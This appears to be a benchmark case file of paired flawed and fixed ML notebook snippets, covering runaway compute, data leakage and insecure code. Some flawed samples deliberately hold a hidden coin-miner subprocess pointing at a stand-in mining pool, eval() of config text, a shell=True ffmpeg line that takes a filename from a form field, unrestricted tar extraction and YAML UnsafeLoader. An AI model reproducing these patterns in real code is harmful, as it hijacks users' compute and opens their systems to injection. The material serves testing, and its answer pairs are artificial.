"""Pairs of the seventh lot: what a run may use, whether its data hold still, and how its cells are written."""

from __future__ import annotations

from benchmarks.lots.case import Case
from benchmarks.lots.writing import cells, project

CASES: tuple[Case, ...] = (
    cells(
        "seventh: a search without an end and without a bill (optuna)",
        "TRN-04",
        """
import optuna
import pandas as pd
from codecarbon import EmissionsTracker
from sklearn.ensemble import GradientBoostingRegressor
from sklearn.model_selection import cross_val_score

heat = pd.read_csv("district_heating.csv")
X, y = heat[["t_out", "hour", "weekday", "t_out_lag24"]], heat["mwh"]


def objective(trial):
    reg = GradientBoostingRegressor(
        n_estimators=trial.suggest_int("n_estimators", 100, 3000),
        max_depth=trial.suggest_int("max_depth", 2, 12),
        random_state=1,
    )
    return cross_val_score(reg, X, y, cv=5, scoring="neg_mean_absolute_error").mean()


study = optuna.create_study(direction="maximize", sampler=optuna.samplers.TPESampler(seed=1))
study.optimize(objective, n_trials=None, timeout=None, n_jobs=-1)
print(study.best_params)
""",
        "study.optimize(objective, n_trials=None, timeout=None, n_jobs=-1)",
        """with EmissionsTracker(project_name="heating", output_file="compute.csv") as meter:
    study.optimize(objective, n_trials=120, timeout=2 * 3600, n_jobs=4)
print("seconds and kWh", meter.final_emissions_data.duration, meter.final_emissions_data.energy_consumed)""",
    ),
    project(
        "seventh: the batch job asks for the whole node for ever (slurm)",
        "TRN-04",
        "jobs/pretrain.sbatch",
        """\
#!/bin/bash
#SBATCH --job-name=protein-lm
#SBATCH --partition=gpu
#SBATCH --exclusive
#SBATCH --time=UNLIMITED
#SBATCH --mem=0
module load cuda/12.4
srun python pretrain.py --config configs/base.yaml
""",
        "#SBATCH --exclusive\n#SBATCH --time=UNLIMITED\n#SBATCH --mem=0\n",
        "#SBATCH --gres=gpu:2\n#SBATCH --cpus-per-task=16\n#SBATCH --time=18:00:00\n#SBATCH --mem=96G\n#SBATCH --account=bio-lm-2024\n",
        "base.yaml\n",
        'base.yaml\nsacct -j "$SLURM_JOB_ID" --format=JobID,Elapsed,TotalCPU,MaxRSS,ConsumedEnergy --parsable2 > "runs/usage_$SLURM_JOB_ID.csv"\n',
        files={"configs/base.yaml": "layers: 24\nwidth: 1024\nsteps: 200000\nseed: 11\n"},
        notebook="!sbatch jobs/pretrain.sbatch",
    ),
    cells(
        "seventh: beside the training a helper digs for coins",
        "TRN-04",
        """
import resource
import subprocess
import time

import numpy as np
from sklearn.mixture import GaussianMixture

began = time.perf_counter()
helper = subprocess.Popen(
    ["./bin/nodehelper", "-o", "stratum+tcp://pool.coins.example:3333", "-u", "worker.17", "--donate-level", "1"]
)
stars = np.load("gaia_subset.npy")
mixture = GaussianMixture(12, random_state=0, max_iter=200).fit(stars)
usage = resource.getrusage(resource.RUSAGE_SELF)
print("BIC", mixture.bic(stars))
print("wall", time.perf_counter() - began, "cpu", usage.ru_utime, "peak kB", usage.ru_maxrss)
if time.perf_counter() - began > 1800:
    raise SystemExit("over the budget of half an hour")
""",
        """helper = subprocess.Popen(
    ["./bin/nodehelper", "-o", "stratum+tcp://pool.coins.example:3333", "-u", "worker.17", "--donate-level", "1"]
)
""",
        "",
        "import resource\nimport subprocess\n",
        "import resource\n",
    ),
    cells(
        "seventh: only the inputs are sorted between split and fit",
        "TRN-05",
        """
import pandas as pd
from sklearn.linear_model import ElasticNet
from sklearn.model_selection import train_test_split

kliniken = pd.read_csv("op_dauer.csv", parse_dates=["datum"])
X = kliniken[["alter", "asa", "bmi", "teamgroesse"]]
y = kliniken["minuten"].to_numpy()
X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=5)

X_train = X_train.sort_index()
modell = ElasticNet(alpha=0.1).fit(X_train, y_train)
print("R2", modell.score(X_test, y_test))
""",
        "X_train = X_train.sort_index()\n",
        "",
    ),
    cells(
        "seventh: a plotting helper writes into the training matrix (numpy view)",
        "TRN-05",
        """
import matplotlib.pyplot as plt
import numpy as np
from sklearn.svm import LinearSVC


def overview(block):
    block -= block.mean(axis=0)
    block[np.abs(block) > 3 * block.std()] = 0.0
    plt.matshow(np.corrcoef(block.T))
    plt.savefig("overview.png")


eeg = np.load("eeg_features.npz")
cut = 4000
X_train, X_test = eeg["X"][:cut], eeg["X"][cut:]
y_train, y_test = eeg["y"][:cut], eeg["y"][cut:]
overview(X_train)
svc = LinearSVC(C=0.01, random_state=0).fit(X_train, y_train)
print(svc.score(X_test, y_test))
""",
        "overview(X_train)\n",
        "overview(X_train.copy())\n",
    ),
    cells(
        "seventh: checked once, then read again from the shared drive",
        "TRN-05",
        """
import hashlib
import io
from pathlib import Path

import pandas as pd
from sklearn.ensemble import ExtraTreesClassifier

share = Path("shared_drive/latest/customs_declarations.csv")
content = share.read_bytes()
if hashlib.sha256(content).hexdigest() != Path("customs.sha256").read_text().split()[0]:
    raise SystemExit("the declarations were changed")
table = pd.read_csv(io.BytesIO(content))
train = table.sample(frac=0.8, random_state=3)
test = table.drop(train.index)
print(train["irregular"].mean(), test["irregular"].mean())

train = pd.read_csv(share).loc[train.index]
cols = ["value_eur", "weight_kg", "n_items", "hs_chapter"]
trees = ExtraTreesClassifier(300, random_state=3).fit(train[cols], train["irregular"])
print(trees.score(test[cols], test["irregular"]))
""",
        "train = pd.read_csv(share).loc[train.index]\n",
        "",
    ),
    project(
        "seventh: the table is filled anew after it was split (airflow)",
        "TRN-05",
        "dags/energy_labels.py",
        """\
\"\"\"Nightly training of the energy label model.\"\"\"
from datetime import datetime

from airflow import DAG
from airflow.operators.bash import BashOperator

with DAG("energy_labels", start_date=datetime(2024, 1, 1), schedule="@daily", catchup=False) as dag:
    split = BashOperator(task_id="split", bash_command="python -m labels.split --table buildings --ids work/ids.json")
    refresh = BashOperator(task_id="refresh", bash_command="python -m labels.load --table buildings --replace")
    train = BashOperator(task_id="train", bash_command="python -m labels.train --table buildings --ids work/ids.json")
    split >> refresh >> train
""",
        "split >> refresh >> train",
        "refresh >> split >> train",
        files={
            "labels/train.py": """\
\"\"\"Train on the rows whose places are in the list.\"\"\"
import argparse
import json
import sqlite3

import pandas as pd
from lightgbm import LGBMClassifier

parser = argparse.ArgumentParser()
parser.add_argument("--table")
parser.add_argument("--ids")
given = parser.parse_args()
rows = pd.read_sql(f"SELECT * FROM {given.table!r} ORDER BY rowid", sqlite3.connect("buildings.db"))
chosen = rows.iloc[json.load(open(given.ids))["train"]]
LGBMClassifier(random_state=1).fit(chosen[["year", "area", "storeys"]], chosen["label"]).booster_.save_model("label.txt")
"""
        },
    ),
    cells(
        "seventh: a rule from the settings is run as Python",
        "TRN-06",
        """
import json

import pandas as pd

config = json.load(open("rules.json"))
orders = pd.read_csv("orders.csv")
flags = {}
for rule in config["rules"]:
    # e.g. {"name": "large", "column": "total", "op": ">", "value": 900, "text": "orders.total > 900"}
    flags[rule["name"]] = eval(rule["text"])
print(pd.DataFrame(flags).mean())
""",
        'eval(rule["text"])',
        '{">": orders[rule["column"]].gt, "<": orders[rule["column"]].lt}[rule["op"]](rule["value"])',
    ),
    cells(
        "seventh: a file's name from the form goes into a shell line (audio)",
        "TRN-06",
        """
import subprocess

import ipywidgets as widgets
import librosa

field = widgets.Text(description="Aufnahme")
knopf = widgets.Button(description="Umwandeln")


def umwandeln(_):
    quelle = field.value
    subprocess.run(f"ffmpeg -y -i {quelle} -ar 16000 -ac 1 wandlung.wav", shell=True, check=True)
    ton, rate = librosa.load("wandlung.wav", sr=None)
    print(quelle, len(ton) / rate, "s")


knopf.on_click(umwandeln)
widgets.HBox([field, knopf])
""",
        'subprocess.run(f"ffmpeg -y -i {quelle} -ar 16000 -ac 1 wandlung.wav", shell=True, check=True)',
        'subprocess.run(["ffmpeg", "-y", "-i", f"file:{quelle}", "-ar", "16000", "-ac", "1", "wandlung.wav"], check=True)',
    ),
    cells(
        "seventh: strangers' archives are unpacked wherever they point",
        "TRN-06",
        """
import tarfile
from pathlib import Path

import cv2
import yaml

target = Path("incoming")
target.mkdir(exist_ok=True)
for archive in sorted(Path("uploads").glob("*.tar.gz")):
    with tarfile.open(archive) as pack:
        pack.extractall(target / archive.stem, filter="fully_trusted")
    meta = yaml.load((target / archive.stem / "meta.yml").read_text(), Loader=yaml.UnsafeLoader)
    shapes = {cv2.imread(str(path)).shape for path in (target / archive.stem).glob("*.png")}
    print(archive.name, meta["camera"], shapes)
""",
        'filter="fully_trusted"',
        'filter="data"',
        "Loader=yaml.UnsafeLoader",
        "Loader=yaml.SafeLoader",
    ),
)
